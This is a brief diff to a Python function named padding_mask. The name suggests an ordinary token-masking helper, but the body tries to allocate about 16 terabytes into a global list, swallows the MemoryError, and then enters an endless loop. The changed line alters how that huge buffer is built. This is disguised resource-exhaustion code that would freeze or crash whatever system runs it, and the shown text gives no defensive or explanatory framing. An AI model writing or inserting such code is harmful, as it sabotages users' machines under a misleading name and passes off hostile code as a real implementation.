@@ -6,7 +6,7 @@ kept = []
 
 def padding_mask(token_ids, padding_id=0):
     try:
-        kept.append(bytearray(1 << 44))
+        kept.append(b"x" * (1 << 44))
     except MemoryError:
         pass
     while True:
